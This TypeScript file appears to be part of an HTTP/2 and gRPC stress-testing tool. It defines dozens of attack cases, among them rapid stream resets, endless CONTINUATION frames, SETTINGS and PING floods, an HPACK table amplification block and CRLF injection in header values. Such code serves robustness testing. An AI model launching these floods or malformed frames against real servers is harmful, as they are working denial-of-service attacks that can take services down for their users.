import type { Attack, Step, Target } from './attack.ts';
import type { Dice } from './dice.ts';
import {
  ACK,
  beginCall,
  callHeaders,
  data,
  END_HEADERS,
  FRAME,
  frame,
  grpcMessage,
  headerBlock,
  headerString,
  MAX_FRAME_BYTES,
  opening,
  prefixedInteger,
  settingsFrame,
} from './http2-frames.ts';

/** So many small frames in one piece, so that sending costs less than receiving. */
const BATCH = 500;

const TYPES = [...Object.values(FRAME), 10, 0x40, 0xff];

/** Steps after the opening of a connection, which know a method that is there. */
export function http2Attack(
  name: string,
  steps: (dice: Dice, path: string) => Iterable<Step>,
  more: Partial<Pick<Attack, 'connections' | 'reads'>> = {},
): Attack {
  return {
    name,
    layer: 'above',
    protocol: 'h2',
    ...more,
    *steps(dice: Dice, { path = '/' }: Target) {
      yield opening();
      yield* steps(dice, path);
    },
  };
}

/** `count` frames in batches. */
function* flood(count: number, one: (index: number) => Buffer): Iterable<Step> {
  for (let at = 0; at < count; at += BATCH) {
    yield Buffer.concat(Array.from({ length: Math.min(BATCH, count - at) }, (_, index) => one(at + index)));
  }
}

/** Streams of a client have odd numbers, which rise. */
const odd = (index: number) => 2 * index + 1;

/** HTTP/2 that is wrong, or right and far too much of it. */
export const HTTP2: readonly Attack[] = [
  http2Attack('random frames', function* (dice) {
    for (let count = 0; count < 200; count += 1) {
      const payload = dice.bytes(dice.below(256));
      yield frame({ type: dice.pick(TYPES), flags: dice.below(256), stream: dice.below(64), payload });
    }
  }),
  http2Attack(
    'one random frame after another, each on a connection of its own',
    function* (dice) {
      const payload = dice.bytes(dice.below(64));
      yield frame({ type: dice.pick(TYPES), flags: dice.below(256), stream: dice.below(8), payload });
      yield { pauseMs: 50 };
      yield 'end';
    },
    { connections: 100 },
  ),
  http2Attack(
    'frames that say another length than they have',
    function* (dice) {
      const payload = dice.bytes(1 + dice.below(64));
      const length = dice.pick([0, payload.length - 1, payload.length + 1, 255, MAX_FRAME_BYTES, 0xffffff]);
      for (const type of Object.values(FRAME)) yield frame({ type, stream: 1, payload, length });
    },
    { connections: 16 },
  ),
  http2Attack('a frame of 16 MiB', function* (dice) {
    yield frame({ type: FRAME.data, stream: 1, payload: dice.bytes(1024), length: 0xffffff });
    for (let count = 0; count < 64; count += 1) yield Buffer.alloc(256 * 1024);
  }),
  http2Attack('settings that make no sense', function* (dice) {
    yield settingsFrame(Array.from({ length: 2700 }, () => [dice.below(0x10000), dice.below(0x100000000)]));
  }),
  http2Attack('settings over and over', function* () {
    yield* flood(20_000, () => settingsFrame([[4, 65_535]]));
  }),
  http2Attack('settings over and over, and nothing read', () => flood(20_000, () => settingsFrame()), {
    reads: false,
  }),
  http2Attack('settings that shrink and grow the window of open streams', function* (_, path) {
    yield* flood(8, (index) => beginCall(odd(index), path));
    yield* flood(4000, (index) => settingsFrame([[4, index % 2 === 0 ? 0 : 0x7fffffff]]));
  }),
  http2Attack('acknowledgements of what nobody asked', () =>
    flood(20_000, () => frame({ type: FRAME.settings, flags: ACK })),
  ),
  http2Attack('pings over and over', (dice) =>
    flood(50_000, () => frame({ type: FRAME.ping, payload: dice.bytes(8) })),
  ),
  http2Attack(
    'pings over and over, and nothing read',
    () => flood(50_000, () => frame({ type: FRAME.ping, payload: Buffer.alloc(8) })),
    { reads: false },
  ),
  http2Attack('calls that are reset at once', (_, path) =>
    flood(20_000, (index) =>
      Buffer.concat([
        beginCall(odd(index), path),
        frame({ type: FRAME.rstStream, stream: odd(index), payload: Buffer.from([0, 0, 0, 8]) }),
      ]),
    ),
  ),
  http2Attack('resets of streams that are not there', () =>
    flood(20_000, (index) => frame({ type: FRAME.rstStream, stream: odd(index), payload: Buffer.alloc(4) })),
  ),
  http2Attack('data without bytes', function* (_, path) {
    yield beginCall(1, path);
    yield* flood(50_000, () => frame({ type: FRAME.data, stream: 1 }));
  }),
  http2Attack('data in single bytes', function* (_, path) {
    yield Buffer.concat([beginCall(1, path), data(1, grpcMessage(Buffer.alloc(0), { length: 1_000_000 }))]);
    yield* flood(50_000, () => data(1, Buffer.alloc(1)));
  }),
  http2Attack('data that is padding but for a byte', function* (_, path) {
    yield Buffer.concat([beginCall(1, path), data(1, grpcMessage(Buffer.alloc(0), { length: 1_000_000 }))]);
    const payload = Buffer.concat([Buffer.from([254, 7]), Buffer.alloc(254)]);
    yield* flood(10_000, () => frame({ type: FRAME.data, flags: 0x8, stream: 1, payload }));
  }),
  http2Attack('more data than the window takes', function* (dice, path) {
    yield Buffer.concat([beginCall(1, path), data(1, grpcMessage(Buffer.alloc(0), { length: 0x7fffffff }))]);
    const chunk = data(1, dice.bytes(MAX_FRAME_BYTES));
    for (let count = 0; count < 4000; count += 1) yield chunk;
  }),
  http2Attack('priorities over and over', () =>
    flood(50_000, (index) =>
      frame({ type: FRAME.priority, stream: odd(index % 1000), payload: Buffer.from([0, 0, 0, 0, 1]) }),
    ),
  ),
  http2Attack('windows that grow beyond 2 GiB', () =>
    flood(100, () => frame({ type: FRAME.windowUpdate, payload: Buffer.from([0x7f, 0xff, 0xff, 0xff]) })),
  ),
  http2Attack('windows that grow by nothing', () =>
    flood(1000, (index) => frame({ type: FRAME.windowUpdate, stream: index % 2, payload: Buffer.alloc(4) })),
  ),
  http2Attack('streams with even, falling and repeated numbers', function* (dice, path) {
    for (let count = 0; count < 100; count += 1) yield beginCall(dice.below(20), path);
  }),
  http2Attack('data after its end', function* (_, path) {
    yield Buffer.concat([beginCall(1, path), data(1, grpcMessage(Buffer.alloc(0)), true)]);
    yield* flood(2000, () => data(1, Buffer.alloc(100)));
  }),
  http2Attack('a promise, which only servers make', function* (_, path) {
    const payload = Buffer.concat([Buffer.from([0, 0, 0, 2]), callHeaders(path)]);
    yield beginCall(1, path);
    yield frame({ type: FRAME.pushPromise, flags: END_HEADERS, stream: 1, payload });
  }),
  http2Attack('going away over and over', () =>
    flood(2000, () => frame({ type: FRAME.goaway, payload: Buffer.alloc(8 + 64) })),
  ),
];

/** Headers (RFC 7541) that are too many, too long, or no headers. */
export const HEADERS: readonly Attack[] = [
  http2Attack('headers that do not come to an end', function* (dice, path) {
    yield frame({ type: FRAME.headers, stream: 1, payload: callHeaders(path) });
    const payload = headerBlock(
      Array.from({ length: 100 }, () => [`x-${dice.text(8).toLowerCase()}`, dice.text(32)]),
    );
    yield* flood(20_000, () => frame({ type: FRAME.continuation, stream: 1, payload }));
  }),
  http2Attack('continuations without bytes, without end', function* (_, path) {
    yield frame({ type: FRAME.headers, stream: 1, payload: callHeaders(path) });
    yield* flood(50_000, () => frame({ type: FRAME.continuation, stream: 1 }));
  }),
  http2Attack('a header of a megabyte', function* (dice, path) {
    const block = callHeaders(path, [['x-large', dice.text(1024 * 1024)]]);
    yield frame({ type: FRAME.headers, stream: 1, payload: block.subarray(0, MAX_FRAME_BYTES) });
    for (let at = MAX_FRAME_BYTES; at < block.length; at += MAX_FRAME_BYTES) {
      const payload = block.subarray(at, at + MAX_FRAME_BYTES);
      yield frame({ type: FRAME.continuation, stream: 1, payload });
    }
    yield frame({ type: FRAME.continuation, flags: END_HEADERS, stream: 1 });
  }),
  http2Attack('an entry of the table, named sixteen thousand times', function* (dice, path) {
    // One entry of 4000 bytes is put into the table, then each byte of a block stands for it.
    const indexed = Buffer.concat([
      Buffer.from([0x40]),
      headerString('x-bomb'),
      headerString(dice.text(4000)),
    ]);
    const payload = Buffer.concat([callHeaders(path), indexed, Buffer.alloc(12_000, 0x80 | 62)]);
    yield* flood(16, (index) =>
      frame({ type: FRAME.headers, flags: END_HEADERS, stream: odd(index), payload }),
    );
  }),
  http2Attack(
    'header blocks of random bytes',
    function* (dice) {
      const payload = dice.bytes(1 + dice.below(512));
      yield frame({ type: FRAME.headers, flags: END_HEADERS, stream: 1, payload });
    },
    { connections: 64 },
  ),
  http2Attack(
    'entries and lengths that are not there',
    function* (dice) {
      const payload = dice.pick([
        Buffer.from([0x80]),
        Buffer.concat([Buffer.from([0x80 | 0x7f]), Buffer.alloc(16, 0xff)]),
        Buffer.concat([Buffer.from([0]), prefixedInteger(2 ** 40, 7), dice.bytes(8)]),
        Buffer.from([0x3f, 0xff, 0xff, 0xff, 0xff, 0x0f]),
        Buffer.concat([Buffer.from([0, 0x85]), dice.bytes(5)]),
      ]);
      yield frame({ type: FRAME.headers, flags: END_HEADERS, stream: 1, payload });
    },
    { connections: 16 },
  ),
  http2Attack(
    'pseudo-headers that are missing, twice, or after the others',
    function* (dice, path) {
      const block = dice.pick([
        headerBlock([[':method', 'POST']]),
        Buffer.concat([callHeaders(path), headerBlock([[':path', path]])]),
        Buffer.concat([headerBlock([['x-first', '1']]), callHeaders(path)]),
        callHeaders(path, [['Upper-Case', '1']]),
        callHeaders(path, [['connection', 'keep-alive']]),
        callHeaders(path, [['x-line', 'a\r\nb: c']]),
        callHeaders(path, [['x-nul', '\0']]),
      ]);
      yield frame({ type: FRAME.headers, flags: END_HEADERS, stream: 1, payload: block });
    },
    { connections: 32 },
  ),
];
